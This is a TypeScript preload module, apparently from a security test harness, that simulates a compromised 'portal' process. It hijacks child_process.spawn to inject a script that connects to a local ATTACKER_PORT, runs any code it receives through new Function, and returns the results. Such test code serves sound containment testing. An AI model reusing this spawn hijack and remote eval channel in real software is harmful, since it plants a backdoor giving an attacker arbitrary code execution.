// Preloaded into a core by `--import`: its portal is started as always, with all that Node is told, and once it runs it does
// whatever the attacker sends it. So a hole in the portal is played, through which any code came in.

import childProcess from 'node:child_process';
import { syncBuiltinESMExports } from 'node:module';
import { pathToFileURL } from 'node:url';

const { spawn } = childProcess;
const isPortal = (argv: unknown): argv is string[] =>
  Array.isArray(argv) && String(argv.at(-1)).endsWith('apps/portal/main.ts');

/** The portal itself, and then a line to the attacker: what is sent is run, what comes of it is sent back. */
const hole = (main: string, port: number): string => `
  await import(${JSON.stringify(pathToFileURL(main).href)});
  const run = (code, given) => new Function('given', 'return (' + code + ')(given)')(given);
  const line = process.getBuiltinModule('node:net').connect(${port}, '127.0.0.1');
  line.on('error', () => undefined);
  let rest = '';
  line.setEncoding('utf8').on('data', (text) => {
    const lines = (rest + text).split('\\n');
    rest = lines.pop();
    for (const asked of lines) void answer(JSON.parse(asked));
  });
  async function answer({ id, code, given }) {
    let told;
    try {
      told = { id, value: (await run(code, given)) ?? null };
    } catch (fault) {
      told = { id, fault: String(fault?.code ?? fault) };
    }
    line.write(JSON.stringify(told) + '\\n');
  }
`;

Object.assign(childProcess, {
  spawn: (command: string, argv: unknown, ...options: unknown[]) => {
    const changed = isPortal(argv)
      ? [
          ...argv.slice(0, -1),
          '--input-type=module',
          '--eval',
          hole(String(argv.at(-1)), Number(process.env.ATTACKER_PORT)),
        ]
      : argv;
    return Reflect.apply(spawn, childProcess, [command, changed, ...options]);
  },
});
syncBuiltinESMExports();
